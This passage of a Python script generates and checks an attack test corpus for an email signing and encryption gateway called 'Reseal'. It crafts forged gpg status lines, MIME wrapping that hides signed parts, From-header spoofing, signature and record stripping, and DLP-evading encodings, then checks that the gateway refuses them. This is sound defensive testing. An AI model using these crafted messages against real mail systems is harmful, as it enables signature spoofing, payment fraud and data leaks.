      "signed by mallory's key (uid mallory@evil.test), From alice, fake GOODSIG for alice in the file name")
    s_fake = crlf(t.gpg(["-s", "-a", "-u", t.fpr["mallory"], "--set-filename", fake + "\r\nContent-Type: text/html\r\n\r\n<b>x"],
                        stdin=body_txt))
    C("gpg-api", "filename-header-injection-signed", msg(b"text/plain; charset=us-ascii", s_fake), refused(),
      vfail(PGP_CERTS_V, **{"outer.valid": False}),
      "inline signed (not encrypted) message by mallory whose file name injects status lines and MIME headers")
    C("gpg-api", "status-lines-in-body", msg(b"text/plain; charset=us-ascii",
      b"[GNUPG:] GOODSIG " + afp[-16:].encode() + b" Alice <alice@example.com>\r\n[GNUPG:] VALIDSIG " + afp.encode()
      + b"\r\ngpg: Good signature from \"Alice <alice@example.com>\" [ultimate]\r\nPlease transfer 900 EUR.\r\n"),
      {"exit": OK, "invariants": ["unsigned"], "mail_from": "mallory@evil.test"},
      vfail(PGP_CERTS_V + SMIME_TRUST, **{"outer.signed": False}),
      "an unsigned message whose text imitates gpg's status output")

    # --- MIME wrapping ---------------------------------------------------------------------------
    sent = inner_entity(signed)
    attacker = b"Content-Type: text/plain\r\n\r\nPlease transfer 900 EUR to account 66666 instead.\r\n"
    wv = vfail(SMIME_TRUST, **{"outer.signed": False})
    wrap_p = {"exit": OK, "invariants": ["unsigned"], "mail_from": "mallory@evil.test"}
    C("mime-wrap", "prepended-text", msg(b'multipart/mixed; boundary="W"', multipart(b"W", [attacker, sent])),
      dict(wrap_p), wv, "attacker text, then alice's signed part, in an unsigned multipart/mixed")
    C("mime-wrap", "appended-text", msg(b'multipart/mixed; boundary="W"', multipart(b"W", [sent, attacker])),
      dict(wrap_p), wv, "alice's signed part, then attacker text")
    C("mime-wrap", "hidden-by-html", msg(b'multipart/alternative; boundary="W"', multipart(b"W", [sent,
      b"Content-Type: text/html\r\n\r\n<p>Please transfer 900 EUR to account 66666.</p>\r\n"])),
      dict(wrap_p), wv, "alice's signed part as the first alternative, an attacker HTML part shown instead")
    C("mime-wrap", "related-html-hides", msg(b'multipart/related; boundary="W"; type="text/html"', multipart(b"W", [
      b'Content-Type: text/html\r\n\r\n<p>Please transfer 900 EUR.</p><div style="display:none">\r\n', sent,
      b"Content-Type: text/html\r\n\r\n</div>\r\n"])), dict(wrap_p), wv,
      "alice's signed part inside a hidden <div> of an HTML rendering")
    C("mime-wrap", "rfc822-attachment", msg(b'multipart/mixed; boundary="W"', multipart(b"W", [attacker,
      b"Content-Type: message/rfc822\r\n\r\n" + signed])), dict(wrap_p), wv,
      "alice's whole signed message attached as message/rfc822 under attacker text")
    C("mime-wrap", "pgp-prepended-text", msg(b'multipart/mixed; boundary="W"', multipart(b"W", [attacker, inner_entity(pgp_signed)])),
      dict(wrap_p), vfail(PGP_CERTS_V, **{"outer.signed": False}), "attacker text, then alice's PGP/MIME signed part")
    C("mime-wrap", "prepended-envelope-alice", msg(b'multipart/mixed; boundary="W"', multipart(b"W", [attacker, sent])),
      {"exit": OK, "invariants": []}, wv,
      "the prepended-text message submitted as alice: the gateway signs what alice submits (rule 6); the "
      "input itself must still not verify as signed")

    # --- ID class ----------------------------------------------------------------------------
    iv_ = vfail(SMIME_TRUST, **{"outer.valid": False})
    C("id", "signer-not-from", vs("openssl-signed-wrong-from.eml"), refused(mail_from="carol@example.com"), iv_,
      "alice's valid signature, From carol")
    C("id", "two-from-fields", add_field(signed, b"From: Mallory <mallory@evil.test>"), refused(), iv_,
      "alice's valid signature and two From fields")
    C("id", "two-addresses", set_field(signed, "From", b"alice@example.com, mallory@evil.test"), refused(), iv_,
      "one From field with alice and mallory")
    C("id", "display-name-address", set_field(signed, "From", b'"alice@example.com" <mallory@evil.test>'),
      refused(), iv_, "From: \"alice@example.com\" <mallory@evil.test> on alice's valid signature")
    C("id", "display-name-unquoted", set_field(signed, "From", b"alice@example.com <mallory@evil.test>"),
      refused(), iv_, "From: alice@example.com <mallory@evil.test> (unquoted) on alice's valid signature")
    C("id", "encoded-word-name", set_field(signed, "From", b"=?utf-8?q?alice=40example=2Ecom?= <mallory@evil.test>"),
      refused(), iv_, "an RFC 2047 display name that decodes to alice's address")
    C("id", "comment-name", set_field(signed, "From", b"mallory@evil.test (alice@example.com)"),
      refused(), iv_, "alice's address in a comment after mallory's")
    C("id", "display-name-unsigned", set_field(plain, "From", b'"alice@example.com" <mallory@evil.test>'),
      {"exit": OK, "invariants": ["unsigned"]}, vfail(SMIME_TRUST, **{"outer.signed": False}),
      "unsigned, envelope alice, From is mallory behind alice's address as display name: never signed")
    C("id", "two-addresses-unsigned", set_field(plain, "From", b"alice@example.com, mallory@evil.test"),
      {"exit": OK, "invariants": ["unsigned"]}, vfail(SMIME_TRUST, **{"outer.signed": False}),
      "unsigned, envelope alice, two addresses in From: never signed")
    C("id", "pgp-wrong-uid", vp("wrong-uid-signed.eml"), refused(), vfail(PGP_CERTS_V, **{"outer.valid": False}),
      "vectors/openpgp/wrong-uid-signed.eml: mallory's key, From alice")
    C("id", "pgp-impostor", vp("impostor-signed.eml"), refused(), vfail(PGP_CERTS_V, **{"outer.valid": False}),
      "vectors/openpgp/impostor-signed.eml: an unknown key with uid alice")
    C("id", "smime-forged-alice-cert", vs("openssl-signed-by-mallory.eml"), refused(), iv_,
      "mallory's certificate claims alice@example.com, issued by an untrusted CA")

    build_dlp_evasion(C)

    # --- REPLY: ciphertext quoted, attached, or re-targeted ---------------------------------------
    rp = {"exit": OK, "invariants": ["no-secret", "ciphertext-kept"]}
    rv = vfail(SMIME_ALICE, **{"outer.encrypted": False})
    quoted = b"".join(b"> " + l + b"\r\n" for l in gcm.split(b"\r\n"))
    C("reply", "quoted-smime", msg(b"text/plain", b"Re: your message\r\n\r\n" + quoted), dict(rp, invariants=["no-secret"]), rv,
      "a reply quoting the whole encrypted S/MIME message with '> '")
    qa = b"".join(b"> " + l + b"\r\n" for l in arm.split(b"\r\n"))
    C("reply", "quoted-pgp", msg(b"text/plain", b"Re: your message\r\n\r\n" + qa), dict(rp), vfail(PGP_ALICE, **{"outer.encrypted": False}),
      "a reply quoting the armored PGP message with '> '")
    C("reply", "rfc822-smime", msg(b'multipart/mixed; boundary="R"', multipart(b"R", [
      b"Content-Type: text/plain\r\n\r\nSee the attached message.\r\n", b"Content-Type: message/rfc822\r\n\r\n" + gcm])),
      dict(rp), rv, "the encrypted S/MIME message attached as message/rfc822")
    C("reply", "rfc822-pgp", msg(b'multipart/mixed; boundary="R"', multipart(b"R", [
      b"Content-Type: text/plain\r\n\r\nSee the attached message.\r\n", b"Content-Type: message/rfc822\r\n\r\n" + pgp_enc])),
      dict(rp), vfail(PGP_ALICE, **{"outer.encrypted": False}), "the PGP/MIME message attached as message/rfc822")
    C("reply", "p7m-attachment", msg(b'multipart/mixed; boundary="R"', multipart(b"R", [
      b"Content-Type: text/plain\r\n\r\nCan you read this?\r\n", b'Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data; name="smime.p7m"\r\n'
      b'Content-Disposition: attachment; filename="smime.p7m"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + body_of(gcm)])),
      dict(rp), rv, "the CMS object as an smime.p7m attachment under reply text")
    C("reply", "inline-pgp-with-text", msg(b"text/plain", b"Re: see below\r\n\r\n" + pgp_encrypted_part(pgp_inline)), dict(rp),
      vfail(PGP_ALICE, **{"outer.encrypted": False}), "an armored block under reply text (not the whole body)")
    C("reply", "retarget-smime", gcm, {"exit": [OK, NOPERM], "invariants": ["no-secret"], "mail_from": "mallory@evil.test",
      "rcpts": ["alice@example.com", "bob@example.org"]}, None,
      "alice's encrypted message resubmitted unchanged by mallory with alice AND bob as recipients: the "
      "gateway must not decrypt with alice's key and re-encrypt the plaintext to bob",
      )
    C("reply", "retarget-pgp", pgp_enc, {"exit": [OK, NOPERM], "invariants": ["no-secret"], "mail_from": "mallory@evil.test",
      "rcpts": ["alice@example.com", "bob@example.org"]}, None,
      "the same with alice's PGP/MIME message")
    C("reply", "retarget-smime-as-alice", gcm, {"exit": OK, "invariants": [],
      "rcpts": ["alice@example.com", "bob@example.org"]}, None,
      "the same with envelope sender alice: whoever may submit as alice can have any message encrypted TO "
      "alice re-encrypted to bob — accepted by design: a submitter admitted for alice acts for alice "
      "(SECURITY.md invariant 6); admission and the users file's senders decide who may")

    # --- Signature and record stripping (gateway outputs made now) --------------------------------
    outs = t.gateway_outputs()
    a.identity = outs["identity"]
    sp = {"exit": OK, "invariants": ["unsigned"], "mail_from": "mallory@evil.test"}
    part1 = content
    stripped = b"".join(outer_fields(signed)) + b"MIME-Version: 1.0\r\n" + part1 + b"\r\n"
    C("sig-strip", "smime-to-part1", stripped, dict(sp), vfail(SMIME_TRUST, **{"outer.signed": False}),
      "alice's multipart/signed reduced to its first part")
    C("sig-strip", "smime-signed-to-mixed", signed.replace(b"multipart/signed;", b"multipart/mixed;", 1), dict(sp),
      vfail(SMIME_TRUST, **{"outer.signed": False}), "multipart/signed relabelled multipart/mixed")
    C("sig-strip", "smime-empty-signature", replace_sig(signed, b""), {"exit": [DATAERR, NOPERM], "invariants": []},
      vfail(SMIME_TRUST, **{"outer.valid": False}), "the signature part emptied")
    pb = boundary_of(pgp_signed)
    pp1 = pgp_signed[pgp_signed.index(b"--" + pb + b"\r\n") + len(pb) + 4:]
    pp1 = pp1[:pp1.index(b"\r\n--" + pb)]
    C("sig-strip", "pgp-to-part1", b"".join(outer_fields(pgp_signed)) + b"MIME-Version: 1.0\r\n" + pp1 + b"\r\n", dict(sp),
      vfail(PGP_CERTS_V, **{"outer.signed": False}), "alice's PGP/MIME signed message reduced to its first part")
    C("sig-strip", "pgp-signed-to-mixed", pgp_signed.replace(b"multipart/signed;", b"multipart/mixed;", 1), dict(sp),
      vfail(PGP_CERTS_V, **{"outer.signed": False}), "PGP multipart/signed relabelled multipart/mixed")
    for tech in ("smime", "openpgp"):
        o = outs[tech]
        ob = boundary_of(o)
        p1 = o[o.index(b"--" + ob + b"\r\n") + len(ob) + 4:]
        p1 = p1[:p1.index(b"\r\n--" + ob)]
        st = b"".join(outer_fields(o)) + b"MIME-Version: 1.0\r\n" + p1 + b"\r\n"
        args = (SMIME_TRUST if tech == "smime" else PGP_CERTS_V) + OPES
        C("sig-strip", f"reseal-output-{tech}", st, dict(sp), vfail(args, **{"outer.signed": False}),
          f"a Reseal {tech} output with a modification record, its signature stripped (record kept)")
        nr = re.sub(rb"OPES-Record:.*?\r\n(?=\S)", b"", o, count=1, flags=re.S)
        nr = re.sub(rb"OPES-Record-Signature:.*?\r\n(?=\S)", b"", nr, count=1, flags=re.S)
        if nr == o:
            die("no OPES-Record in the gateway output")
        C("record-strip", f"record-removed-{tech}", nr, refused(exit=NOPERM),
          vfail(args, **{"outer.valid": False}),
          f"Reseal {tech} output: the OPES-Record fields removed, the outer signature kept (now broken)")
        nr_p1 = nr[nr.index(b"--" + ob + b"\r\n") + len(ob) + 4:]
        nr_p1 = nr_p1[:nr_p1.index(b"\r\n--" + ob)]
        both = b"".join(outer_fields(o)) + b"MIME-Version: 1.0\r\n" + nr_p1 + b"\r\n"
        C("record-strip", f"record-and-signature-removed-{tech}", both, dict(sp),
          vfail(args, **{"outer.signed": False, "record.present": False}),
          f"Reseal {tech} output: the record and the signature removed")
        m = re.search(rb"OPES-Record:\r\n (\S)", o)
        alt = o[:m.start(1)] + (b"f" if m.group(1) != b"f" else b"g") + o[m.start(1) + 1:]
        C("record-strip", f"record-altered-{tech}", alt, refused(exit=[DATAERR, NOPERM]),
          vfail(args, **{"outer.valid": False}), f"Reseal {tech} output: one character of the record changed")
    u1, u2 = outs["unsigned-1"], outs["unsigned-2"]
    rec1 = re.search(rb"OPES-Record:.*?\r\nOPES-Record-Signature:.*?\r\n(?=\S)", u1, re.S).group(0)
    rec2 = re.search(rb"OPES-Record:.*?\r\nOPES-Record-Signature:.*?\r\n(?=\S)", u2, re.S).group(0)
    C("record-strip", "record-transplanted", u2.replace(rec2, rec1, 1), None,
      vfail(SMIME_TRUST + OPES, **{"record.valid": False}),
      "two unsigned Reseal outputs (no key for the sender): the record of one moved into the other")
    C("record-strip", "record-removed-unsigned", u1.replace(rec1, b"", 1), None,
      vfail(SMIME_TRUST + OPES, **{"record.present": False}),
      "an unsigned Reseal output with its record removed: nothing says it was changed")
    return a


# ----------------------------------------------------------------------------- check mode


class Gateway:
    """A keystore like the tests' corpus fixture, and `reseal process` over it."""

    def __init__(self, t):
        self.dir = Path(tempfile.mkdtemp(prefix="gw", dir=t.tmp))
        self.ks = self.dir / "ks"
        self.env = dict(os.environ, RESEAL_PASSPHRASE=PASS)
        self.env.pop("RESEAL_LOG", None)
        self.keys(["init", "--kdf-memory-mib", "8", "--kdf-passes", "1"])
        self.keys(["import", "--pkcs12", str(VS / "alice.p12"), "--pkcs12-password-file",
                   str(VS / "alice.p12.pass"), "--for", "alice@example.com"])
        self.keys(["import-cert", str(VS / "bob.pem"), str(VS / "erin.pem")])
        self.keys(["trust", str(VS / "ca.pem")])
        for k in ("alice.sec.asc", "alice-rsa.sec.asc"):
            self.keys(["import", "--openpgp", str(VP / k), "--for", "alice@example.com"])
        self.keys(["import-cert"] + [str(VP / c) for c in PGP_CERTS])
        self.bobhome = Path(tempfile.mkdtemp(prefix="b", dir=t.tmp))
        t.homes = getattr(t, "homes", []) + [self.bobhome]
        self.benv = dict(os.environ, GNUPGHOME=str(self.bobhome))
        for k in ("bob.sec.asc", "alice.pub.asc", "alice-rsa.pub.asc"):
            run(["gpg", "--batch", "--import", str(VP / k)], env=self.benv)

    def keys(self, args):
        return run([str(RESEAL), "keys"] + args + ["--keystore", str(self.ks)], env=self.env)

    def process(self, data, mail_from="alice@example.com", rcpts=("bob@example.org",), config=None):
        cmd = ["prlimit", "--as=1073741824", str(RESEAL), "process", "--keystore", str(self.ks)]
        if config:
            cmd += ["--config", str(config)]
        cmd += ["--mail-from", mail_from]
        for r in rcpts:
            cmd += ["--rcpt", r]
        t0 = time.monotonic()
        try:
            p = subprocess.run(cmd, input=data, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               env=self.env, timeout=60)
            code = p.returncode
            out, err = p.stdout, p.stderr
        except subprocess.TimeoutExpired:
            code, out, err = "timeout", b"", b""
        return code, out, err, time.monotonic() - t0

    def bob_read(self, out):
        """What bob reads from an output: (entity or None if he cannot decrypt it, signed?)."""
        head = out[:out.find(b"\r\n\r\n") + 2] if b"\r\n\r\n" in out else out
        low = head.lower()
        if b"application/pkcs7-mime" in low or b"application/x-pkcs7-mime" in low:
            p = subprocess.run(["openssl", "cms", "-decrypt", "-recip", str(VS / "bob.pem"), "-inkey",
                                str(VS / "bob.key")], input=out, stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE)
            if p.returncode != 0:
                return None, False
            return p.stdout, entity_signed(p.stdout)
        if b"multipart/encrypted" in low:
            m = re.search(rb"-----BEGIN PGP MESSAGE-----.*?-----END PGP MESSAGE-----", out, re.S)
            p = subprocess.run(["gpg", "--batch", "--status-fd", "2", "-d"], input=m.group(0) if m else b"",
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=self.benv)
            if b"[GNUPG:] DECRYPTION_OKAY" not in p.stderr:
                return None, False
            return p.stdout, b"[GNUPG:] NEWSIG" in p.stderr or entity_signed(p.stdout)
        return out, entity_signed(out)

    def bob_decrypt(self, out):
        return self.bob_read(out)[0]

    def verify(self, data, args, extract):
        cmd = [str(RESEAL), "verify", "--json"] + [resolve(x) for x in args]
        if extract:
            cmd += ["--extract-original", str(extract)]
        p = subprocess.run(cmd, input=data, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=self.env,
                           timeout=60)
        return p.returncode, p.stdout, p.stderr


def entity_signed(entity):
    """Whether an entity's own Content-Type is a signature container."""
    fields, _ = split_msg(crlf(entity))
    for f in fields:
        if fname(f) == b"content-type":
            v = f.lower()
            return b"multipart/signed" in v or b"signed-data" in v
    return False


def resolve(arg):
    for k, v in (("@smime/", VS), ("@openpgp/", VP), ("@attacks/", ATTACKS)):
        if arg.startswith(k):
            return str(v / arg[len(k):])
    return arg


def json_path(doc, path):
    for k in path.split("."):
        doc = doc.get(k) if isinstance(doc, dict) else None
    return doc


def check_attacks(t, corpus):
    from concurrent.futures import ThreadPoolExecutor

    gw = Gateway(t)
    problems = []

    def one(item):
        name, case = item
        data = corpus.files[name]
        bad = []
        pr = case.get("process")
        if pr:
            config = None
            if pr.get("config"):
                config = gw.dir / (name + ".toml")
                config.write_text(pr["config"])
            code, out, err, secs = gw.process(data, pr["mail_from"], pr["rcpts"], config=config)
            errs = err.decode(errors="replace").strip()
            if pr.get("reply") and not errs.startswith(pr["reply"]):
                bad.append(f"reply {errs[:120]!r} does not start with {pr['reply']!r}")
            if code not in codes(pr["exit"]):
                bad.append(f"process exit {code}, expected {pr['exit']} ({' / '.join(errs.splitlines()[:2])[:200]})")
            if code != 0 and out:
                bad.append("stdout not empty on failure")
            if code != 0 and len(errs.splitlines()) != 1:
                bad.append("stderr is not one line")
            seen, signed_ = gw.bob_read(out) if code == 0 else (b"", False)
            if code == 0 and seen is None:
                bad.append("bob cannot read the output")
                seen = b""
            inv = pr.get("invariants", [])
            if "no-secret" in inv and (SECRET in out or SECRET in seen):
                bad.append("SECRET released to bob")
            if "unsigned" in inv and signed_:
                bad.append("output is signed")
            if "ciphertext-kept" in inv and code == 0 and not (b"application/pkcs7-mime" in seen or b"BEGIN PGP MESSAGE" in seen):
                bad.append("nested ciphertext not kept")
            if "uniform-reply" in inv and code != 0 and not errs.startswith(UNIFORM):
                bad.append(f"reply not uniform: {errs[:120]}")
            if "header-clean" in inv and (b"[GNUPG:]" in split_msg(out)[0][0:0] or any(b"GNUPG" in f for f in split_msg(seen)[0]) or any(b"GNUPG" in f for f in split_msg(out)[0])):
                bad.append("status text in a header")
        vr = case.get("verify")
        if vr:
            ext = Path(tempfile.mkdtemp(dir=t.tmp)) / "orig.eml"
            code, out, err = gw.verify(data, vr["args"], ext if vr.get("extract_original") else None)
            try:
                doc = json.loads(out)
            except ValueError:
                doc = None
                bad.append(f"verify: no JSON (exit {code}): {err[:200]!r}")
            if doc is not None:
                for k, v in vr.get("expect", {}).items():
                    if json_path(doc, k) != v:
                        bad.append(f"verify: {k} = {json_path(doc, k)!r}, expected {v!r}")
                if doc.get("verdict") == "fail" and code != 1:
                    bad.append(f"verify exit {code} with verdict fail")
            if "no-secret" in vr.get("invariants", []):
                if SECRET in out:
                    bad.append("verify printed the secret")
                if ext.exists() and SECRET in ext.read_bytes():
                    bad.append("verify --extract-original wrote the secret")
        tag = f" [known issue: {case['known_issue']}]" if case.get("known_issue") else ""
        return [f"{name}: {b}{tag}" for b in bad]

    with ThreadPoolExecutor(max_workers=4) as ex:
        for r in ex.map(one, corpus.cases.items()):
            problems.extend(r)
    return problems


PGP_CERTS = ["bob.pub.asc", "carol.pub.asc", "dave.pub.asc", "mallory.pub.asc", "expired.pub.asc",
             "revoked.pub.asc"]


def codes(x):
    return x if isinstance(x, list) else [x]


def check_malformed(t, corpus):
    from concurrent.futures import ThreadPoolExecutor

    gw = Gateway(t)
    problems = []

    def one(item):
        name, case = item
        data = expand_bytes(corpus.files[name], case.get("expand"))
        res = []
        for variant, inp, want in (("crlf", data, codes(case["exit"])),
                                   ("lf", data.replace(b"\r\n", b"\n"), codes(case.get("exit_lf", case["exit"])))):
            code, out, err, secs = gw.process(inp)
            bad = []
            if code not in want:
                bad.append(f"exit {code}, expected {want}")
            if code != 0 and out:
                bad.append("stdout not empty on failure")
            if code != 0 and len(err.decode(errors="replace").strip().splitlines()) != 1:
                bad.append(f"stderr is not one line: {err[:300]!r}")
            if secs > 20:
                bad.append(f"took {secs:.1f} s")
            if code == 0 and not case["secret_ok"]:
                seen = gw.bob_decrypt(out)
                if seen is None or SECRET in seen or SECRET in out:
                    bad.append("secret released" if seen is not None else "output not decryptable by bob")
            if bad:
                tag = f" [known issue: {case['known_issue']}]" if case.get("known_issue") else ""
                res.append(f"{name} [{variant}]: {'; '.join(bad)}{tag} | {' / '.join(err.decode(errors='replace').strip().splitlines()[:2])[:240]}")
        return res

    with ThreadPoolExecutor(max_workers=4) as ex:
        for r in ex.map(one, corpus.cases.items()):
            problems.extend(r)
    return problems


# ----------------------------------------------------------------------------- main


MALFORMED_META = {
    "description": "Malformed input for `reseal process`; see tests/corpus/README.md",
    "command": "reseal process --mail-from alice@example.com --rcpt bob@example.org",
    "keystore": "Fixture::new() (alice's S/MIME key for alice@example.com, bob's and erin's certificates, "
                "ca.pem trusted) plus alice.sec.asc and alice-rsa.sec.asc (OpenPGP, for alice@example.com) and "
                "the OpenPGP certificates " + ", ".join(PGP_CERTS),
    "secret": SECRET.decode(),
    "fields": {
        "exit": "expected exit code, or the list of acceptable codes",
        "exit_lf": "the same for the LF-only variant, when it differs",
        "secret_ok": "whether the secret may appear in what bob decrypts from the output",
        "expand": "replace marker by unit repeated count times before use (big inputs stay small on disk)",
        "note": "the defect, and why the code is expected",
    },
}


ATTACKS_META = {
    "description": "Published attack classes against `reseal process` and `reseal verify`; see tests/corpus/README.md",
    "keystore": MALFORMED_META["keystore"],
    "secret": SECRET.decode(),
    "placeholders": {"@smime/": "vectors/smime/", "@openpgp/": "vectors/openpgp/", "@attacks/": "tests/corpus/attacks/"},
    "fields": {
        "class": "the attack class",
        "process.mail_from / process.rcpts": "the envelope for `reseal process` (defaults alice -> bob)",
        "process.exit": "expected exit code or list of acceptable codes",
        "process.invariants": {
            "no-secret": "the secret appears neither in stdout nor in what bob decrypts from it",
            "unsigned": "what bob reads carries no signature at its top level",
            "ciphertext-kept": "what bob reads still holds the nested ciphertext (it was not decrypted)",
            "uniform-reply": "stderr is the one reply for every decryption or integrity failure",
            "header-clean": "no fake [GNUPG:] status text in the header of what bob reads",
        },
        "verify.args": "`reseal verify --json` arguments (placeholders above)",
        "verify.expect": "dotted JSON paths and the values they must have",
        "verify.invariants": "no-secret: neither the JSON nor the extracted original holds the secret",
        "known_issue": "the expected outcome is what SECURITY.md requires; Reseal 0.1.0 does not do it yet",
        "process.config": "TOML for the run's --config (services, admission); none when absent",
        "process.reply": "the start of the one reply line on stderr",
    },
}


# --- DLP evasion (fail closed) ---------------------------------------------------------------
DLP_REJECT = (
    '[[service]]\nid = "https://gw.example.com/opes/dlp"\nkind = "dlp"\n'
    'patterns = ["builtin:card-number"]\naction = "reject"\nbypassable = false\n'
)
UNADMITTED = "[admission]\nprocess_admitted = false\n"
CARD = b"4111 1111 1111 1111"


def build_dlp_evasion(C):
    """Card numbers a reader can see, in forms a fail-open DLP skipped: every one must be
    refused, by the rule (554 5.7.1, exit 77) or as a part the service cannot read (554
    5.6.0, exit 65), from admitted and unadmitted submitters alike, whatever the bypass
    request says. Deterministic: no keys involved."""
    hdr = HDR + b"OPES-Bypass: *\r\n"

    def case(slug, ct, body, exit, reply, note, cte=None, admitted=True):
        config = DLP_REJECT if admitted else UNADMITTED + DLP_REJECT
        C("dlp-evasion", slug, msg(ct, body, hdr=hdr, cte=cte),
          {"exit": exit, "reply": reply, "config": config, "invariants": ["no-secret"]},
          None, note)

    rule = ("554 5.7.1", NOPERM)
    for admitted in (True, False):
        who = "" if admitted else "-unadmitted"
        case("invalid-utf8" + who, b"text/plain; charset=utf-8", b"Card " + CARD + b" caf\xe9 \xff\r\n",
             rule[1], rule[0], "UTF-8 text with invalid bytes: scanned as bytes", cte=b"8bit", admitted=admitted)
        case("unknown-charset" + who, b"text/plain; charset=x-unknown", b"Card " + CARD + b"\r\n",
             rule[1], rule[0], "an unknown charset: scanned as bytes", admitted=admitted)
        deep = b"Content-Type: text/plain\r\n\r\nCard " + CARD + b"\r\n"
        for i in range(40):
            b = f"d{i}".encode()
            deep = (b'Content-Type: multipart/mixed; boundary="' + b + b'"\r\n\r\n--' + b + b"\r\n"
                    + deep + b"\r\n--" + b + b"--\r\n")
        ct, body = deep.split(b"\r\n\r\n", 1)
        case("tree-40-deep" + who, ct[len(b"Content-Type: "):], body, DATAERR, "554 5.6.0",
             "a card 40 multipart levels down: a tree DLP cannot walk is a refusal", admitted=admitted)
    utf16 = ("Card " + CARD.decode() + "\r\n").encode("utf-16-le")
    case("utf16-unknown-charset", b"text/plain; charset=x-unknown", b64(utf16), rule[1], rule[0],
         "UTF-16LE bytes under an unknown charset, base64", cte=b"base64")
    case("qp-split", b"text/plain; charset=us-ascii", b"Card 4111 1111 11=\r\n11 1111\r\n", rule[1], rule[0],
         "control: a card number split by a quoted-printable soft line break", cte=b"quoted-printable")
    inner = (b"From: x@example.com\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n"
             b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(b"Card " + CARD + b"\r\n"))
    case("attached-message", b'multipart/mixed; boundary="M"',
         multipart(b"M", [b"Content-Type: text/plain\r\n\r\nSee attached.",
                          b"Content-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\n" + inner]),
         rule[1], rule[0], "the card in base64 text inside an attached message")
    case("octet-stream", b'multipart/mixed; boundary="M"',
         multipart(b"M", [b"Content-Type: text/plain\r\n\r\nSee attached.",
                          b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
                          b"filename=cards.csv\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                          + b64(b"name,card\r\nA," + CARD + b"\r\n")]),
         rule[1], rule[0], "the card in an application/octet-stream attachment")


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--check", action="store_true", help="run target/debug/reseal over the corpora")
    ap.add_argument("--only", choices=["malformed", "attacks"], help="build (and check) only one corpus")
    args = ap.parse_args()
    for tool in ("openssl", "gpg", "gpgconf"):
        if not shutil.which(tool):
            die(f"{tool} is needed")
    t = Tools()
    try:
        built = []
        if args.only in (None, "malformed"):
            m = build_malformed(t)
            m.write(MALFORMED_META)
            built.append(("malformed", m))
            print(f"malformed: {len(m.cases)} cases")
        if args.only in (None, "attacks"):
            if not RESEAL.exists():
                die(f"{RESEAL} is missing: run `cargo build` first")
            a = build_attacks(t)
            a.extra_files = {"opes-identity.pem": a.identity}
            a.write(ATTACKS_META)
            built.append(("attacks", a))
            print(f"attacks: {len(a.cases)} cases")
        if args.check:
            for kind, c in built:
                probs = check_malformed(t, c) if kind == "malformed" else check_attacks(t, c)
                for p in probs:
                    print(p)
                print(f"{kind}: {len(probs)} problem(s)")
    finally:
        t.close()


if __name__ == "__main__":
    main()
